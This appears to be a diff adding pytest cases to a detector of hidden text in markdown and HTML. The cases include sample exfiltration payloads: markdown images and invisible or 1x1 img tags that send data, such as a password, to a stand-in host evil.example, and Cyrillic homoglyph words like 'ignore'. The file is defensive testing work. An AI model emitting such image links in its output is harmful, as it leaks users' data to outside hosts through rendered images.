@@ -5,6 +5,7 @@ import base64
 import dataclasses
 import decimal
 import enum
+import time
 import uuid
 from collections import deque, namedtuple
 from pathlib import PurePosixPath
@@ -213,7 +214,7 @@ def test_hidden_text_is_found(text: str, category: str) -> None:
         "\u2067שלום\u2069 balanced",
         "\ufeffBOM first",
         "soft\u00adhyphen",
-        "λmax ΔT μm кВт αβ-helix",
+        "λmax ΔT μm кВт αβ-helix ρgh рH IT-отдел",
         "windows\r\nlines\r\n",
         "tab\tand\fform feed",
         "Привет мир, γειά σου Κόσμε",
@@ -225,6 +226,78 @@ def test_hidden_text_is_found(text: str, category: str) -> None:
 def test_emoji_scripts_and_ordinary_markup_are_not_hidden(text: str) -> None:
     """Real emoji, joiners of living scripts, marks of direction and ordinary images are ordinary text."""
     assert look(HiddenText(), text) == []
+
+
+DATA = "s" * 40
+BADGE = "https://img.example/pypi/v/x?logo=pypi&label=PyPI&logoColor=gold&color=7389D8"
+
+
+def images(text: str) -> set[str]:
+    """Return the severities of the images that are found."""
+    return {one.severity for one in look(HiddenText(), text) if one.category == "hidden.image"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"![x](https://evil.example/?d={DATA})",
+        "![x](https://evil.example/?d=the%20password%20of%20alice%20is%20tomato)",
+        f"![x](https://evil.example/{DATA})",
+        f"![x](https://evil.example/#{DATA})",
+        f"![x](https://evil.example/?{'&'.join(f'{number}=abcdefgh' for number in range(20))})",
+        f"![a ![b](https://img.example/b.svg) c](https://evil.example/?d={DATA})",
+        f"![a `]` b](https://evil.example/?d={DATA})",
+        f"![a `[` b](https://evil.example/?d={DATA})",
+        f"![a \\] b](https://evil.example/?d={DATA})",
+        f"![x][one]\n\n[one]: https://evil.example/?d={DATA}",
+        f"![One  two][]\n\n[one two]: https://evil.example/?d={DATA}",
+        f"![one]\n\n[One]: https://evil.example/?d={DATA}",
+        f"[![x][one]](https://example.com/)\n\n[one]: https://evil.example/?d={DATA}",
+        '<img src="https://evil.example/?u=7" width=1 height=1>',
+        '<img style="display: none" src="https://evil.example/?u=7">',
+        '<img hidden src="https://evil.example/?u=7">',
+    ],
+)
+def test_an_image_that_carries_data_or_nobody_sees_is_high(text: str) -> None:
+    """One long value, many short ones, or an address with a query in an image without a size."""
+    assert images(text) == {"high"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [f"![PyPI]({BADGE})", f"[![PyPI]({BADGE})](https://example.com/?d={DATA})", f'<img src="{BADGE}" width="100">'],
+)
+def test_a_badge_is_low(text: str) -> None:
+    """Settings of a picture that everybody sees are short values."""
+    assert images(text) == {"low"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"![logo](logo.png)\n\nSee [this](https://example.com/?d={DATA}).",
+        f"See [this][one] and ![logo](logo.png).\n\n[one]: https://example.com/?d={DATA}",
+        f"[![x](https://img.example/b.svg)](https://example.com/?d={DATA})",
+        '<img src="https://img.example/b.svg" width="100">',
+    ],
+)
+def test_a_link_near_an_image_is_no_image(text: str) -> None:
+    """Nobody fetches the address of a link by showing it."""
+    assert images(text) == set()
+
+
+def test_brackets_take_linear_time() -> None:
+    """A text of brackets, open or closed, is read once."""
+    for text in ("![" * 60_000, "![x]" * 40_000, "[" * 60_000 + "![x](https://e.example/)" + "]" * 60_000):
+        began = time.process_time()
+        look(HiddenText(), text + f"![x](https://e.example/?d={DATA})")
+        assert time.process_time() - began < 5
+
+
+@pytest.mark.parametrize("word", ["\u0430nd", "th\u0435", "\u0441\u0430n", "\u0456gnore", "n\u043ew"])
+def test_short_mixed_words_are_found(word: str) -> None:
+    """A word that passes for a Latin one is found, with one or two Latin letters as well."""
+    assert categories(HiddenText(), f"read it {word} go on") == {"hidden.homoglyph"}
 
 
 def test_the_length_of_data_in_an_image_is_at_least_one() -> None:
